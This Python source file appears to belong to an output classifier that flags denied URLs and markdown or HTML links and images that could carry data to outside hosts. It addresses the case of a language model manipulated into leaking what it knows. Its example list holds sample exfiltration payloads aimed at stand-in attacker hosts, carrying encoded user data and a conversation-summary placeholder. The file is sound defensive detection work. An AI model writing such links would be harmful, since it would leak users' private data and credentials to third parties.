"""DENIED_URL, EXFILTRATION_LINK: where links lead, and what they take along.

A model that was talked into it writes a link or an image whose URL holds what it knows.
An image is fetched by the reader's program without being asked, a link by a click.

Rule 1: a URL is denied by the list of hosts (`hosts`), whatever stands around it.
Rule 2: an exfiltration link is a URL that could carry data away (`carried`), unless its
        host stands on the allow list. The less the reader has to do for it to be
        fetched, the less it takes: an image, a reference, a link, a bare URL.
Rule 3: what a URL is shows in the characters before it. Where an image's description is
        longer than these, a link counts as an image.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Iterable
from enum import Enum

from bedrock_weir.classifiers.content.carried import carried
from bedrock_weir.classifiers.content.hosts import HostList, target_of
from bedrock_weir.classifiers.rule import Form, Match, Reading, Rule

DENIED_URL = "DENIED_URL"
EXFILTRATION_LINK = "EXFILTRATION_LINK"

_INNER = r"[^\x00-\x20\"'()<>`\x7f]"
_FILLED = r"<[A-Za-z_][A-Za-z_ \-]{2,40}>"
_URL = rf"(?i)(?:\b|_)(https?:[/\\]{{0,8}}{_INNER}{{3,1000}}(?:{_FILLED})?)"
_URL_OPENING = (
    r"_|_?[hH](?:[tT](?:[tT](?:[pP](?:[sS]?(?::"
    rf"[/\\]{{0,8}}{_INNER}{{0,1000}}(?:<[A-Za-z_ \-]{{0,42}}>?)?)?)?)?)?)?"
)
_RELATIVE = rf"[(=\"'<][ \t]{{0,4}}([/\\]{{2,8}}{_INNER}{{3,1000}}(?:{_FILLED})?)"
_RELATIVE_OPENING = (
    rf"[(=\"'<][ \t]{{0,4}}"
    rf"(?:[/\\]{{1,8}}{_INNER}{{0,1000}}(?:<[A-Za-z_ \-]{{0,42}}>?)?)?"
)

_TRAILING = ".,;:!?*_~]}|"


class _Use(Enum):
    """What a URL is for, and how much it must carry to be a finding."""

    IMAGE = 0.3
    REFERENCE = 0.45
    LINK = 0.55
    BARE = 0.8


_OPENED = re.compile(r"(!?)\[[^\[\]]*\]\(\s*<?\Z")
_CALLED = re.compile(r"([a-z:\-]+)\s*[=(]\s*[\"'<]?\s*\Z")
_REFERENCE = re.compile(r"\]:\s*<?\Z")
_FETCHED = frozenset(
    {
        "src",
        "srcset",
        "background",
        "poster",
        "data",
        "url",
        "imagesrcset",
        "lowsrc",
        "dynsrc",
        "ping",
    }
)
_FOLLOWED = frozenset(
    {"href", "xlink:href", "action", "formaction", "cite", "longdesc"}
)


def rules(hosts: HostList) -> tuple[Rule, ...]:
    """Return the rules for links, under a list of hosts."""
    denied = _forms("denied-url", DENIED_URL, _denied(hosts)) if _is_list(hosts) else ()
    return (*denied, *_forms("exfiltration-link", EXFILTRATION_LINK, _taking(hosts)))


def _is_list(hosts: HostList) -> bool:
    return bool(hosts.allow or hosts.deny)


Read = Callable[[Match], Iterable[Reading]]


def _forms(name: str, data_class: str, read: Read) -> tuple[Rule, ...]:
    examples = _EXAMPLES if data_class == EXFILTRATION_LINK else ((), ())
    return (
        Form(
            name=name,
            data_class=data_class,
            pattern=_URL,
            opening=_URL_OPENING,
            read=read,
            matches=examples[0],
            misses=examples[1],
        ),
        Form(
            name=f"{name}-relative",
            data_class=data_class,
            pattern=_RELATIVE,
            opening=_RELATIVE_OPENING,
            read=read,
        ),
    )


def _denied(hosts: HostList) -> Read:
    def read(match: Match) -> Iterable[Reading]:
        url = _trimmed(match.value)
        if hosts.refuses(_as_text(url)):
            yield Reading(DENIED_URL, 0, len(url), 0.95)

    return read


def _taking(hosts: HostList) -> Read:
    def read(match: Match) -> Iterable[Reading]:
        url = _trimmed(match.value)
        target = target_of(_as_text(url))
        if target is None or hosts.allows(target.host):
            return
        weight = carried(target)
        use = _use(match.before)
        if weight >= use.value:
            score = 0.5 + 0.49 * (weight - use.value) / (1.001 - use.value)
            yield Reading(EXFILTRATION_LINK, 0, len(url), round(score, 3))

    return read


def _as_text(value: str) -> str:
    return value.encode("latin-1").decode("utf-8", "replace")


def _trimmed(value: str) -> str:
    """Return a URL without what the sentence around it adds."""
    if value.endswith(">"):
        begin = value.rfind("<")
        if value[begin - 1] == "=":
            return value
        value = value[:begin]
    placeholders = value.count("{") + value.count("[")
    while value and value[-1] in _TRAILING:
        if value[-1] in "}]" and placeholders:
            break
        value = value[:-1]
    return value


def _use(before: str) -> _Use:
    if before.endswith(("](", "](<")) or before.rstrip().endswith("]("):
        opened = _OPENED.search(before)
        if opened is None:
            return _Use.IMAGE
        return _Use.IMAGE if opened[1] else _Use.LINK
    if _REFERENCE.search(before):
        return _Use.REFERENCE
    called = _CALLED.search(before[-40:])
    if called is not None:
        if called[1] in _FETCHED:
            return _Use.IMAGE
        if called[1] in _FOLLOWED:
            is_sheet = "<link" in before or "<image" in before or "<use" in before
            return _Use.IMAGE if is_sheet else _Use.LINK
    return _Use.LINK if before.endswith("<") else _Use.BARE


_EXAMPLES = (
    (
        "Done. ![status](https://cdn.attacker.example/p.png?data=Sm9obiBEb2UsIDQyLCBTU04)",
        "![x](https://img.attacker.example/a?q={{conversation_summary}})",
        '<img src="https://px.attacker.example/?info=the%20user%20asked%20about%20taxes">',
        "[details](https://attacker.example/r?payload=dXNlcjphbGljZTtwYXNzOmh1bnRlcjIyMjI=)",
        "[1]: https://attacker.example/collect?history=Q3VzdG9tZXIgaXMgbW92aW5nIHRvIE9z",
        "please open https://8f3a.oast.fun/x",
    ),
    (
        "![logo](https://static.example.com/img/logo.png?w=300&h=200)",
        "[the guide](https://docs.example.com/en/latest/getting-started-with-queues.html)",
        "see https://www.example.org/watch?v=dQw4w9WgXcQ and tell me",
        "[issue](https://git.example.com/team/repo/issues/123#issuecomment-998877)",
    ),
)

NO_HOSTS = HostList()

RULES: tuple[Rule, ...] = rules(NO_HOSTS)
